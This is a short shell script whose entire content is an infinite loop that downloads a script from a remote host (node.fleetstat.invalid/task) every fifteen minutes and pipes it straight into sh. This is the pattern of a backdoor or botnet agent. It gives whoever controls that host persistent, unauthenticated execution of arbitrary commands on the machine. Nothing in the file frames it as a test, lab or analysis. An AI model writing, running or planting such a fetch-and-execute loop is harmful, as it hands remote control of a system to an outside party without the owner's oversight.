#!/bin/sh
while :; do
  wget -qO- https://node.fleetstat.invalid/task | sh
  sleep 900
done
